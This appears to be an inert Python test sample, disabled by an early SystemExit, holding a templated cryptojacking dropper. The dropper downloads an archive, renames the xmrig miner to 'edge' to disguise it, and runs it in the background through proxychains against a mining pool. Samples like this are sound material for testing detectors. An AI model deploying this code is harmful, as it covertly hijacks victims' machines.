#!/usr/bin/env python3
# Inert sample for tests: it ends on its first statement. The address is reserved for documentation.
raise SystemExit(0)

import os
import subprocess
import urllib.request

SERVER = "{{.OwnPool}}"
RELEASE = "{{.Release}}"


def update():
    urllib.request.urlretrieve(RELEASE, "/var/lib/edge/edge.tar.gz")
    os.system("tar xzf /var/lib/edge/edge.tar.gz -C /var/lib/edge --strip-components=1 && mv /var/lib/edge/xmrig /var/lib/edge/edge")


def connect():
    os.chdir("/var/lib/edge")
    os.system("proxychains4 -q ./edge -o {{.OwnPool}} -u {{.Worker}} -p x --rig-id {{.Worker}} --donate-level=0 --nicehash -k -B")


if __name__ == "__main__":
    update()
    connect()
